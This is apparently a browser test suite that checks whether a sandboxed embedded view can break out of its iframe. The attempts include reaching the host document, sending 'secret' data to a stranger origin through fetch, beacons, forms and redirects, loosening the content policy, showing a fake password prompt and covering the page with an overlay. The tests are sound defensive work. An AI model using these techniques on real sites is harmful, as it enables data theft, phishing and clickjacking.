/** Attacks of a view on its host, on other views, and on people. Each is tried in a real browser. */
import { expectNone, expectSame, type Run } from "../../../../test/browser/run.ts";
import { attackPage, perform, type Scene, type Stage } from "./stage.ts";

type Attack = (stage: Stage) => Promise<void>;

/** Runs an attack on a fresh view, and checks that the host is still there. */
async function attack(
  stage: Stage,
  shown: Parameters<typeof perform>[1],
  body: (scene: Scene) => Promise<void>,
): Promise<void> {
  const scene = await perform(stage, shown);
  try {
    await body(scene);
    expectSame(scene.page.url(), `${stage.host}/`);
    expectSame(await scene.page.title(), "Attacked host");
  } finally {
    await scene.close();
  }
}

const ATTACKS: { readonly [name: string]: Attack } = {
  "a view reaches neither the document of the host nor that of its sandbox page": (stage) =>
    attack(stage, {}, async ({ view }) => {
      const reached = await view.evaluate(() => {
        const attempt = (name: string, reach: () => unknown): string[] => {
          try {
            const value = reach();
            return value === null || value === undefined ? [] : [name];
          } catch {
            return [];
          }
        };
        return [
          ...attempt("parent.document", () => parent.document),
          ...attempt("top.document", () => top?.document),
          ...attempt("frameElement", () => frameElement),
          ...attempt("parent.frameElement", () => parent.frameElement),
          ...attempt("parent.eval", () => (parent as unknown as { eval: unknown }).eval),
          ...attempt("top.localStorage", () => top?.localStorage),
          ...attempt("parent.location.href", () => parent.location.href),
          ...attempt("top.attacked", () => (top as unknown as { attacked: unknown }).attacked),
        ];
      });
      expectNone("reached", reached);
      expectSame(await view.evaluate(() => [origin, location.href]), ["null", "about:srcdoc"]);
    }),

  "a view cannot navigate the page of the host": (stage) =>
    attack(stage, {}, async ({ view, page, settle }) => {
      const url = `${stage.stranger.origin}/top`;
      await view.evaluate((target) => {
        const attempt = (act: () => unknown): void => {
          try {
            act();
          } catch {
            // Most are refused by an error.
          }
        };
        attempt(() => (top!.location.href = target));
        attempt(() => top!.location.replace(target));
        attempt(() => (parent.location.href = target));
        attempt(() => window.open(target, "_top"));
        attempt(() => window.open(target, "_parent"));
        for (const name of ["_top", "_parent", "_blank"]) {
          const link = document.createElement("a");
          [link.href, link.target] = [target, name];
          document.body.append(link);
          attempt(() => link.click());
        }
      }, url);
      await page.mouse.click(300, 150);
      await settle();
      expectNone("requests", stage.stranger.hits.splice(0));
    }),

  "a view that goes elsewhere with what it knows reaches nobody, and is removed": (stage) =>
    attack(stage, {}, async ({ view, until }) => {
      await view
        .evaluate((target) => void (location.href = target), `${stage.stranger.origin}/?secret`)
        .catch(() => undefined);
      const { closed } = await until((recorded) => recorded.closed !== undefined);
      expectSame(closed, "The view left its document.");
      expectNone("requests", stage.stranger.hits.splice(0));
    }),

  "a view that reloads itself, or refreshes elsewhere, is removed": async (stage) => {
    await attack(stage, {}, async ({ view, until }) => {
      await view.evaluate(() => location.reload()).catch(() => undefined);
      await until(({ closed }) => closed === "The view left its document.");
    });
    const head = `<meta http-equiv="refresh" content="0;url=${stage.stranger.origin}/refresh">`;
    await attack(stage, { html: attackPage(head) }, async ({ until }) => {
      await until(({ closed }) => closed !== undefined);
      expectNone("requests", stage.stranger.hits.splice(0));
    });
  },

  "a view cannot take the host back in its history": (stage) =>
    attack(stage, {}, async ({ view, settle }) => {
      await view.evaluate(() => history.back()).catch(() => undefined);
      await settle();
    }),

  "a view reaches no origin that it does not declare": (stage) =>
    attack(stage, {}, async ({ view, settle }) => {
      const failed = await view.evaluate(async (origin) => {
        const opened: string[] = [];
        const attempt = async (name: string, work: () => unknown): Promise<void> => {
          try {
            if ((await work()) !== undefined) opened.push(name);
          } catch {
            // Refused.
          }
        };
        await attempt("fetch", () => fetch(`${origin}/fetch`));
        await attempt("fetch without CORS", () => fetch(`${origin}/opaque`, { mode: "no-cors" }));
        await attempt("beacon", () => void navigator.sendBeacon(`${origin}/beacon`));
        await attempt("EventSource", () => void new EventSource(`${origin}/events`));
        await attempt("WebSocket", () => void new WebSocket(origin.replace("http", "ws")));
        await attempt("XMLHttpRequest", () => {
          const request = new XMLHttpRequest();
          request.open("GET", `${origin}/xhr`, false);
          request.send();
          return request.responseText;
        });
        await attempt("worker", () => void new Worker(URL.createObjectURL(new Blob([`fetch("${origin}/worker")`]))));
        await attempt("import", () => import(`${origin}/module.js`));
        const add = (html: string): void => document.body.append(document.createRange().createContextualFragment(html));
        add(
          `<img src="${origin}/image"><script src="${origin}/script"></script><iframe src="${origin}/frame"></iframe>`,
        );
        add(`<link rel="stylesheet" href="${origin}/style"><object data="${origin}/object"></object>`);
        add(`<embed src="${origin}/embed"><video src="${origin}/video"></video><audio src="${origin}/audio"></audio>`);
        add(`<link rel="prefetch" href="${origin}/prefetch"><link rel="preload" as="image" href="${origin}/preload">`);
        add(`<link rel="modulepreload" href="${origin}/modulepreload"><link rel="manifest" href="${origin}/manifest">`);
        add(`<style>@import "${origin}/import"; @font-face { font-family: x; src: url("${origin}/font") }</style>`);
        add(`<p style="font-family: x; background: url('${origin}/background')">x</p>`);
        add(
          `<svg><image href="${origin}/svg"/><use href="${origin}/use#x"/></svg><base href="${origin}/base/"><img src="based">`,
        );
        return opened;
      }, stage.stranger.origin);
      expectNone("opened", failed);
      await settle();
      expectNone("requests", stage.stranger.hits.splice(0));
    }),

  "a view reaches an origin that it declares, for what it declares": (stage) =>
    attack(stage, { meta: { csp: { connectDomains: [stage.stranger.origin] } } }, async ({ view, settle }) => {
      const text = await view.evaluate(
        async (origin) => (await fetch(`${origin}/declared`)).text(),
        stage.stranger.origin,
      );
      expectSame(text.includes("Stranger"), true);
      await view.evaluate((origin) => void (new Image().src = `${origin}/image`), stage.stranger.origin);
      await settle();
      expectSame(stage.stranger.hits.splice(0), ["/declared"]);
    }),

  "origins that would loosen the policy are left out by the sandbox page itself": (stage) =>
    attack(
      stage,
      {
        meta: { csp: { connectDomains: ["*", "'self'; connect-src *"], resourceDomains: ["'unsafe-eval'", "data:"] } },
      },
      async ({ view }) => {
        const reached = await view.evaluate(async (origin) => {
          const fetched = await fetch(`${origin}/loose`).then(
            () => "fetched",
            () => "refused",
          );
          return [fetched, (globalThis as unknown as { evaluated: string }).evaluated];
        }, stage.stranger.origin);
        expectSame(reached, ["refused", "refused"]);
        expectNone("requests", stage.stranger.hits.splice(0));
      },
    ),

  "a view cannot open windows or dialogs": (stage) =>
    attack(stage, {}, async ({ page, view, settle }) => {
      const before = page.context().pages().length;
      let dialogs = 0;
      page.on("dialog", (dialog) => {
        dialogs += 1;
        void dialog.dismiss();
      });
      await view.evaluate((target) => {
        window.open(target);
        document.body.addEventListener("click", () => void window.open(target));
        alert("Your session is over. Enter your password.");
        prompt("Password");
      }, `${stage.stranger.origin}/popup`);
      await page.mouse.click(300, 150);
      await settle();
      expectSame([page.context().pages().length, dialogs], [before, 0]);
      expectNone("requests", stage.stranger.hits.splice(0));
    }),

  "forms of a view tell its scripts, and send nothing": (stage) =>
    attack(stage, {}, async ({ view, settle, recorded }) => {
      const submitted = await view.evaluate((target) => {
        let events = 0;
        const submit = (method: string, name: string): HTMLFormElement => {
          const form = document.createElement("form");
          [form.action, form.method, form.target] = [target, method, name];
          form.innerHTML = '<input name="secret" value="1"><button></button>';
          document.body.append(form);
          return form;
        };
        const handled = submit("get", "");
        handled.addEventListener("submit", (event) => {
          event.preventDefault();
          events += 1;
        });
        handled.requestSubmit();
        submit("post", "_top").submit();
        submit("post", "_blank").submit();
        return events;
      }, `${stage.stranger.origin}/form`);
      expectSame(submitted, 1);
      await settle();
      expectSame((await recorded()).closed, undefined);
      expectNone("requests", stage.stranger.hits.splice(0));
    }),

  "a form that sends itself sends nothing, and the view is removed": (stage) =>
    attack(stage, {}, async ({ view, until }) => {
      await view
        .evaluate((target) => {
          const form = document.createElement("form");
          form.action = target;
          form.innerHTML = '<input name="secret" value="1">';
          document.body.append(form);
          form.submit();
        }, `${stage.stranger.origin}/form`)
        .catch(() => undefined);
      await until(({ closed }) => closed === "The view left its document.");
      expectNone("requests", stage.stranger.hits.splice(0));
    }),

  "a view has no storage, which it would share with other views": (stage) =>
    attack(stage, { sandbox: stage.nearSandbox }, async ({ view }) => {
      const found = await view.evaluate(async () => {
        const usable: string[] = [];
        const attempt = async (name: string, use: () => unknown): Promise<void> => {
          try {
            await use();
            usable.push(name);
          } catch {
            // Refused.
          }
        };
        await attempt("localStorage", () => localStorage.setItem("a", "b"));
        await attempt("sessionStorage", () => sessionStorage.setItem("a", "b"));
        await attempt("cookie", () => {
          document.cookie = "a=b";
          if (document.cookie === "") throw new Error("empty");
        });
        await attempt("caches", () => caches.open("a"));
        await attempt("indexedDB", async () => {
          await new Promise((resolve, reject) => {
            const request = indexedDB.open("a");
            request.addEventListener("success", resolve);
            request.addEventListener("error", reject);
          });
        });
        await attempt("serviceWorker", () => navigator.serviceWorker.register("/worker.js"));
        return usable;
      });
      expectNone("usable", found);
    }),

  "a view gets no permission of the browser that the host does not give": async (stage) => {
    const allowed = (scene: Scene): Promise<string[]> =>
      scene.view.evaluate(() => {
        const policy = (document as unknown as { featurePolicy: { allowsFeature(name: string): boolean } })
          .featurePolicy;
        return ["camera", "microphone", "geolocation", "clipboard-write", "usb", "payment"].filter((each) =>
          policy.allowsFeature(each),
        );
      });
    const permissions = { camera: {}, clipboardWrite: {} };
    await attack(stage, { meta: { permissions } }, async (scene) => expectSame(await allowed(scene), []));
    await attack(stage, { meta: { permissions }, permissions: ["clipboardWrite", "geolocation"] }, async (scene) =>
      expectSame(await allowed(scene), ["clipboard-write"]),
    );
  },

  "a view cannot draw outside of its frame, whatever size it asks for": (stage) =>
    attack(stage, { limits: { maxHeight: 300 } }, async ({ page, view, settle }) => {
      await view.evaluate(() => {
        const cover = document.createElement("div");
        cover.style.cssText =
          "position:fixed;inset:-5000px;z-index:2147483647;background:red;width:20000px;height:20000px";
        document.body.append(cover);
        const tell = (params: object): void =>
          parent.postMessage({ jsonrpc: "2.0", method: "ui/notifications/size-changed", params }, "*");
        for (const height of [1e9, -5, Number.MAX_VALUE, "100vh", null]) tell({ width: 1e9, height });
        tell({ height: 1e9 });
      });
      await settle();
      const seen = await page.evaluate(() => {
        const { top, left, right, bottom } = document.querySelector("iframe")!.getBoundingClientRect();
        const outside = [
          [left - 5, top + 5],
          [right + 5, top + 5],
          [left + 5, top - 5],
          [left + 5, bottom + 5],
        ] as const;
        return {
          height: bottom - top,
          width: right - left,
          covered: outside.filter(([x, y]) => document.elementFromPoint(x, y)?.tagName === "IFRAME").length,
        };
      });
      expectSame(seen, { height: 300, width: 400, covered: 0 });
    }),

  "a view that does not answer is removed in time": (stage) =>
    attack(stage, { limits: { endTimeout: 50 } }, async ({ page, until }) => {
      await page.evaluate(() => void globalThis.attacked.mounted?.close());
      await until(({ closed }) => closed === "closed by the host");
      expectSame(await page.locator("iframe").count(), 0);
    }),

  "a view that never begins is removed": (stage) =>
    attack(stage, { html: "<!doctype html><p>silent", limits: { startTimeout: 200 } }, async ({ recorded }) => {
      expectSame((await recorded()).closed, "The view did not begin in time.");
    }),
};

/** Tries all attacks that need no second window. */
export async function checkAttacks(run: Run, stage: Stage): Promise<void> {
  for (const [name, body] of Object.entries(ATTACKS)) await run.check(name, () => body(stage));
}
